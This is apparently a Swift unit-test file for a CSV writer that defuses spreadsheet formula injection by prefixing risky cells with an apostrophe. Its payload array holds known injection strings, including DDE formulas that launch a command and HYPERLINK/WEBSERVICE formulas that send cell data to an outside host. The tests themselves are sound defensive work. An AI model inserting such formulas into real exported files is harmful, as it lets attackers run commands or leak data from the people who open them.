import ExactNumbers
import Documents
import Testing

@Suite("Text that a spreadsheet would run")
struct FormulaTests {
  /// What is passed around as attacks on spreadsheets, after OWASP's page on CSV injection.
  static let payloads = [
    "=1+1", "=cmd|'/C calc'!A0", "=cmd|' /C notepad'!'A1'",
    "=HYPERLINK(\"http://example.org?x=\"&A1,\"here\")",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=WEBSERVICE(\"http://example.org\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=SUM(A1:A9)",
    "==1", "=-1", "=+@1", "=\u{301}1", "+1", "+1+cmd|' /C calc'!A0", "+HYPERLINK(\"x\")",
    "+905551112233", "-1", "-1+cmd|' /C calc'!A0", "-2+3+cmd|'/C calc'!D2",
    "- a list item",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "\tx", "\rx",
    "\nx",
    " =1+1", "   @A1", "\u{A0}=1+1", "\u{FEFF}=1+1", "\u{200B}-1", "\u{202E}=1", "'=1+1", "''=1",
    "' =1", "\0=1", "＝1+1", "＋1", "－1", "＠A1", "\u{3000}＝1",
  ]

  @Test("Each of them gets one apostrophe, which comes off again", arguments: payloads)
  func risky(payload: String) {
    let safe = CSVWriter.neutralised(payload)
    #expect(Array(safe.utf8) == [0x27] + Array(payload.utf8))
    #expect(Array(CSVWriter.undoNeutralised(safe).utf8) == Array(payload.utf8))
  }

  @Test(
    "Behind every separator that a spreadsheet may take a formula gets its apostrophe",
    arguments: [
      ("a title;=2+40;x", "a title;'=2+40;x"), ("a,=1", "a,'=1"), ("a|@x", "a|'@x"),
      ("a\t+1", "a\t'+1"), ("two\nlines\r\n-1", "two\nlines\r\n'-1"), ("a\r=1", "a\r'=1"),
      ("a; =1", "a;' =1"), ("a;\"=1\"", "a;'\"=1\""), ("a;'=1", "a;''=1"), ("a;＝1", "a;'＝1"),
      ("a;＋1;－2;＠A1", "a;'＋1;'－2;'＠A1"), ("=1;=2", "'=1;'=2"), ("\t=1", "'\t'=1"),
      ("=;b", "'=;b"), ("a;=,b", "a;'=,b"),
    ])
  func separators(text: String, safe: String) {
    #expect(Array(CSVWriter.neutralised(text).utf8) == Array(safe.utf8))
    #expect(Array(CSVWriter.undoNeutralised(safe).utf8) == Array(text.utf8))
  }

  @Test(
    "Ordinary words are left alone, with an apostrophe or without",
    arguments: [
      "", " ", "'", "''", "'tis", "a=1", "59-75", "x@y", "1920-12-17", "“=1”", "\"=1\"", "–5",
      "\u{2212}5", "'\u{301}=", "5 over 3", "İstanbul", "...", "/=", "' '",
      // A sign alone is no formula: the relation of a claim stays what it is.
      "=", "+", "-", "@", "'=", "a; =",
      // Separators without a formula behind them.
      "a; b, c|d", "two\n\nlines", "p. 4; p. 5", "a;'tis", "1,5", ";", "a;",
    ])
  func harmless(words: String) {
    #expect(Array(CSVWriter.neutralised(words).utf8) == Array(words.utf8))
    #expect(Array(CSVWriter.undoNeutralised(words).utf8) == Array(words.utf8))
  }

  @Test("Undoing is the inverse for every text of up to five of the characters that matter")
  func inverse() {
    let alphabet: [Unicode.Scalar] = [
      "'", "=", ";", "\t", "\n", " ", "\"", "a", "＝", "\u{200F}",
    ]
    var texts = [""]
    var all = texts
    for _ in 1...5 {
      texts = texts.flatMap { text in
        alphabet.map { scalar in
          var longer = text
          longer.unicodeScalars.append(scalar)
          return longer
        }
      }
      all += texts
    }
    let wrong = all.filter {
      !CSVWriter.undoNeutralised(CSVWriter.neutralised($0)).utf8.elementsEqual($0.utf8)
    }
    #expect(all.count == 111_111)
    #expect(wrong == [])
  }

  @Test("A number is never touched, whatever its sign")
  func numbers() {
    let values = [ratio(-1), ratio(-1, 2), ratio(-1, 3), ratio(0), ratio(7)]
    let table = Table(
      [.init("i"), .init("n", .number)],
      rows: values.enumerated().map { [.count(-$0.offset), .number($0.element)] })
    #expect(
      CSVWriter.text(table)
        == "i,n,exact\n0,-1,\n-1,-0.500000,\n-2,-0.333333333333,n=-1/3\n-3,0,\n-4,7,\n")
  }
}
